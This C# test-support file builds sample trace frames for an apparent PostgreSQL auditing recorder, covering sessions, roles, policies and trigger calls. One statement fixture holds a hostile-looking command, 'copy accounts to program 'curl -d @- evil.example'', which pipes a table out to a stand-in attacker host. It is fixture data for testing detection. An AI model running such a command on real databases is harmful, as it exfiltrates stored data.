using TraceLab.Events;

namespace TraceLab.Recorder.Tests.Support;

/// <summary>Version-2 events to build spool fixtures from.</summary>
/// <remarks><see cref="OneOfEach"/> and <see cref="Variants"/> together give every field a value other than its
/// default and every nested array at least one entry, so a round trip through them checks every field's position.</remarks>
internal static class SampleFrames
{
    public const long BackendStartUs = 1_795_889_206_123_456;

    /// <summary>The system identifier of <see cref="SessionStarted(long, int, long, uint)"/>'s server.</summary>
    public const ulong SystemIdentifier = 12_345_678_901_234_567_890UL;

    public static FrameHeader Header(
        long seq, long parent = 0, int depth = 0, uint user = 10, SecurityContext context = SecurityContext.None) =>
        new(seq, parent, depth, BackendStartUs + (seq * 17), user, user, context);

    public static SessionStarted SessionStarted(long seq = 1, int pid = 12345, long startUs = BackendStartUs, uint user = 16384) =>
        new(Header(seq, user: user), 2, "0.2.0", 150007, SystemIdentifier, pid, startUs, 5, "app", user, "psql",
            "client backend", LeaderPid: 0, WorkerType: "", HookMode: "user");

    public static RoleDescribed RoleDescribed(long seq, uint oid = 16384, string name = "alice") =>
        new(Header(seq), oid, name, Superuser: false, CanLogin: true, Inherit: true, BypassRowSecurity: false,
            MemberOf: [new RoleMembership(16390, AdminOption: false), new RoleMembership(16391, AdminOption: true)],
            CreateRole: true);

    /// <summary>One frame of every type, seq 1 to 22, with every nested and optional field filled in.</summary>
    public static IReadOnlyList<IRecordedFrame> OneOfEach() =>
    [
        SessionStarted(),
        RoleDescribed(2),
        new FunctionDescribed(Header(3), 16500, "public", "audit", "integer, text", 16384, true, "plpgsql", "f", "v", "trigger",
            Config: ["search_path=mallory", "work_mem=64MB"], Role: "estimator", Extension: "audit_kit"),
        Table(4),
        new OperatorDescribed(Header(5), 16800, "mallory", "===", "integer", "integer", 16385, 16501, InOperatorFamily: true,
            Extension: "int_ops_kit"),
        Domain(6),
        QueryAnalyzed(7),
        new PlanStarted(Header(8), -4_611_686_018_427_387_904, CursorOptions: 2048, BoundParams: true, "select * from accounts_v"),
        new FunctionEntered(Header(9, parent: 8, depth: 1, user: 16385, context: SecurityContext.LocalUserIdChange), 16501,
            "operator", 31, null, null, Phase: "planning", Via: new CallVia("operator", 16800, 0)),
        new FunctionExited(Header(10, parent: 8, depth: 1), 9, FrameOutcome.Failed, "42501"),
        new PlanFinished(Header(11), 8, FrameOutcome.Succeeded, "",
            [new AppliedRowSecurity(16601, [17001, 17002]), new AppliedRowSecurity(16602, [])]),
        new StatementStarted(Header(12), 8_123_456_789, "COPY", StatementKind.Utility, StatementContext.TopLevel,
            "copy accounts to program 'curl -d @- evil.example' -- é…", Prepared: new PreparedStatementReference("", 0),
            Portal: new PortalReference("c1", CachedPlan: true), Origin: "", Targets: [16601, 16602],
            Copy: new CopyDetails(IsFrom: false, IsProgram: true, "curl -d @- evil.example"),
            Plpgsql: new PlpgsqlStatement(4, "dynexecute")),
        new StatementFinished(Header(13), 12, FrameOutcome.Succeeded, "", 3),
        new RoleSwitched(Header(14), "SET ROLE", 16384, 16390, Local: true),
        new ObjectChanged(Header(15, parent: 12, depth: 1), "alter", 1259, 16601, 2, "table column", "public.accounts.note"),
        new MaintenanceStarted(Header(16), "autovacuum", "autovacuum: ANALYZE mallory.t_idx", RelationOid: 16603),
        new MaintenanceFinished(Header(17), 16),
        new SubtransactionStarted(Header(18), 2, 1),
        new SubtransactionEnded(Header(19), 2, TransactionOutcome.Aborted),
        new TransactionEnded(Header(20), TransactionOutcome.Committed),
        new FramesDropped(Header(21), 42, "out of memory"),
        new PrivilegesChanged(Header(22, parent: 12, depth: 1), IsGrant: true, "SCHEMA", ["mallory"], ["USAGE", "CREATE"],
            ["alice", "PUBLIC"], GrantOption: true),
        new PolicyEnforced(Header(23, parent: 12, depth: 1), 12, "ddl-needs-trusted-chain", "block", 1, "ERROR", 1,
            "untrusted-ddl", "user \"mallory\" may not induce user \"alice\" to execute \"ALTER ROLE\"",
            "Trigger trg on mallory.t owned by \"mallory\" (where \"mallory\" entered the chain) was fired by the statement entered by session user \"alice\".",
            ""),
        new EnforcementInForce(Header(24), "ddl-needs-trusted-chain", "tracelab/policy-13a20fbf.tlpolicy", "13a20fbf", "block"),
        new SessionEnded(Header(25)),
    ];

    /// <summary>The frame of type <typeparamref name="T"/> in <see cref="OneOfEach"/>.</summary>
    public static T OneOf<T>()
        where T : IRecordedFrame => OneOfEach().OfType<T>().Single();

    /// <summary>Other shapes of the version-2 frames, seq 1 on: a parallel worker's session, nil optional fields,
    /// empty lists, calls through triggers, event triggers, casts and aggregates, EXECUTE and a foreign-key query, and
    /// inlined calls (probe 0.4).</summary>
    public static IReadOnlyList<IRecordedFrame> Variants() =>
    [
        new SessionStarted(Header(1), 2, "0.2.0", 150007, 1UL, 4243, BackendStartUs, 5, "app", 16384, "", "background worker",
            LeaderPid: 4242, WorkerType: "parallel worker", HookMode: "user"),
        new RoleDescribed(Header(2), 16390, "mallory", false, true, true, false, MemberOf: [], CreateRole: false),
        new FunctionDescribed(Header(3), 16502, "mallory", "positive", "integer", 16390, false, "sql", "f", "i", "boolean",
            Config: [], Role: ""),
        new RelationDescribed(Header(4), 16600, "public", "accounts_v", "v", 16385, SecurityInvoker: true, SecurityBarrier: false,
            RowSecurity: false, ForceRowSecurity: false, Code: null, Extension: "audit_kit"),
        new RelationDescribed(Header(5), 16603, "public", "plain", "r", 16385, false, false, false, false,
            new RelationCode([], [], [], [], [], [])),
        new TypeDescribed(Header(6), 16901, "public", "mood", "e", 10, 0, 3504, 3505, [], ReceiveFunction: 3532, SendFunction: 3533,
            Extension: "moods"),
        new QueryAnalyzed(Header(7), 0, "EXECUTE", [], [], [], [], "execute q(1)"),
        new StatementStarted(Header(8), 0, "EXECUTE", StatementKind.Utility, StatementContext.TopLevel, "execute q(1)",
            Prepared: new PreparedStatementReference("q", 5), Portal: null, Origin: "", Targets: [], Copy: null),
        new StatementStarted(Header(9, parent: 8, depth: 1), 77, "SELECT", StatementKind.Planned, StatementContext.Query,
            "SELECT 1 FROM ONLY \"public\".\"accounts\" x WHERE \"id\" OPERATOR(pg_catalog.=) $1 FOR KEY SHARE OF x",
            Prepared: null, Portal: null, Origin: "foreign_key", Targets: [], Copy: null),
        TriggerCall(10),
        EventTriggerCall(11),
        new FunctionEntered(Header(12, parent: 8, depth: 1), 16502, "cast", 7, null, null, Phase: "parse",
            Via: new CallVia("cast", 25, 16900)),
        new FunctionEntered(Header(13, parent: 8, depth: 1), 16503, "aggregate", -1, null, null, Phase: "execution",
            Via: new CallVia("aggregate", 16810, 0)),
        new PlanFinished(Header(14), 3, FrameOutcome.Failed, "54001", []),
        new SubtransactionEnded(Header(15), 3, TransactionOutcome.Committed),
        InlinedCall(16),
        new FunctionEntered(Header(17, parent: 8, depth: 1), 16501, "call", -1, null, null, Phase: "planning", Via: null,
            Inlined: []),
    ];

    /// <summary>A call the planner inlined (probe 0.4): its call site in the plan's text and the user functions its body
    /// may call.</summary>
    public static FunctionEntered InlinedCall(long seq) =>
        new(Header(seq, parent: 8, depth: 1), 16502, "operator", 7, null, null, Phase: "planning", Via: new CallVia("operator", 16800, 0),
            Inlined: [16500, 16501, 4_000_000_000]);

    /// <summary>A table with row-level security forced and stored code of every kind.</summary>
    public static RelationDescribed Table(long seq) =>
        new(Header(seq), 16601, "public", "accounts", "r", 16385, SecurityInvoker: false, SecurityBarrier: false,
            RowSecurity: true, ForceRowSecurity: true, Code: new RelationCode(
                Defaults: [new StoredDefault(2, "note", false, [16502]), new StoredDefault(3, "total", true, [16502, 16503])],
                Checks: [new StoredCheck(16950, "accounts_note_check", [16504])],
                Indexes: [new StoredIndex(16960, "accounts_lower_idx", [16505], []), new StoredIndex(16961, "accounts_part_idx", [], [16506])],
                Rules: [new StoredRule(16970, "log_update", "UPDATE", [16507])],
                Policies:
                [
                    new StoredPolicy(17001, "own_rows", "SELECT", true, [0], [16508], []),
                    new StoredPolicy(17002, "no_insert", "INSERT", false, [16384, 16390], [], [16509]),
                ],
                Domains: [new DomainColumn(4, 16900)]));

    /// <summary>A domain with a CHECK constraint that calls a user function.</summary>
    public static TypeDescribed Domain(long seq) =>
        new(Header(seq), 16900, "mallory", "positive_int", "d", 16390, 23, 42, 43,
            [new StoredCheck(16951, "positive_int_check", [16502]), new StoredCheck(16952, "small", [])],
            ReceiveFunction: 2598, SendFunction: 2407);

    /// <summary>An analysed query through two views, with relations, aggregates and domains.</summary>
    public static QueryAnalyzed QueryAnalyzed(long seq) =>
        new(Header(seq), -4_611_686_018_427_387_904, "SELECT",
            [new ExpandedView(16600, -1, [16500, 16501]), new ExpandedView(16604, 0, [])],
            Relations: [new AnalyzedRelation(16601, Target: false), new AnalyzedRelation(16602, Target: true)],
            Aggregates: [new AnalyzedAggregate(16810, [16503, 16504])],
            Domains: [16900],
            Text: "select * from accounts_v where note = 'é…'");

    /// <summary>A function entered from a trigger: location -2, trigger context, no event trigger.</summary>
    public static FunctionEntered TriggerCall(long seq) =>
        new(Header(seq, parent: seq - 1, depth: 1), 16500, "trigger", -2,
            new TriggerContext(16700, "audit_trg", 16601, "A", "R", "U"), null, Phase: "commit", Via: null);

    /// <summary>A function entered from an event trigger: location -2, event trigger context with its triggers.</summary>
    public static FunctionEntered EventTriggerCall(long seq) =>
        new(Header(seq, parent: seq - 1, depth: 1), 16501, "event_trigger", -2, null,
            new EventTriggerContext("ddl_command_end", "ALTER ROLE",
                [new EventTriggerReference(17100, "et_audit", 16385), new EventTriggerReference(17101, "et_log", 10)]),
            Phase: "utility", Via: null);

    /// <summary>The event a version-1 frame of <paramref name="frame"/> decodes to: what version 2 appends at its
    /// defaults.</summary>
    public static IRecordedFrame AsVersion1(IRecordedFrame frame) => frame switch
    {
        SessionStarted s => s with { LeaderPid = 0, WorkerType = "", HookMode = "" },
        RoleDescribed r => r with { MemberOf = null, CreateRole = false },
        FunctionDescribed f => f with { Config = null, Role = "", Extension = "" },
        RelationDescribed r => r with { RowSecurity = false, ForceRowSecurity = false, Code = null, Extension = "" },
        QueryAnalyzed q => q with { Relations = null, Aggregates = null, Domains = null, Text = "" },
        StatementStarted s => s with { Prepared = null, Portal = null, Origin = "", Targets = null, Copy = null, Plpgsql = null },
        FunctionEntered f => f with
        {
            EventTrigger = f.EventTrigger is { } e ? e with { Triggers = null } : null,
            Phase = "",
            Via = null,
            Inlined = null,
        },
        _ => frame,
    };

    /// <summary>The event a frame of <paramref name="frame"/> as probe 0.2 wrote it decodes to: the descriptor fields
    /// probe 0.3 appends at their defaults.</summary>
    public static IRecordedFrame AsProbe02(IRecordedFrame frame) => frame switch
    {
        FunctionDescribed f => f with { Extension = "" },
        RelationDescribed r => r with { Extension = "" },
        OperatorDescribed o => o with { InOperatorFamily = false, Extension = "" },
        TypeDescribed t => t with { ReceiveFunction = 0, SendFunction = 0, Extension = "" },
        FunctionEntered f => f with { Inlined = null },
        _ => frame,
    };

    /// <summary>The start of a session: SessionStarted and the session user's RoleDescribed (seq 1, 2).</summary>
    public static List<IRecordedFrame> SessionStart(int pid = 12345, long startUs = BackendStartUs, string user = "alice") =>
        [SessionStarted(pid: pid, startUs: startUs), RoleDescribed(2, name: user)];

    /// <summary><paramref name="count"/> top-level statements (three frames each) from <paramref name="firstSeq"/>.</summary>
    public static List<IRecordedFrame> Statements(long firstSeq, int count)
    {
        var frames = new List<IRecordedFrame>();
        var seq = firstSeq;
        for (var i = 0; i < count; i++)
        {
            var started = seq;
            frames.Add(Statement(seq++, i, $"select {i}"));
            frames.Add(new StatementFinished(Header(seq++), started, FrameOutcome.Succeeded, "", 1));
            frames.Add(new TransactionEnded(Header(seq++), TransactionOutcome.Committed));
        }

        return frames;
    }

    /// <summary>A top-level SELECT as a version-2 probe writes it (no prepared statement, portal or targets).</summary>
    public static StatementStarted Statement(long seq, long queryId, string text) =>
        new(Header(seq), queryId, "SELECT", StatementKind.Planned, StatementContext.TopLevel, text, Targets: []);
}
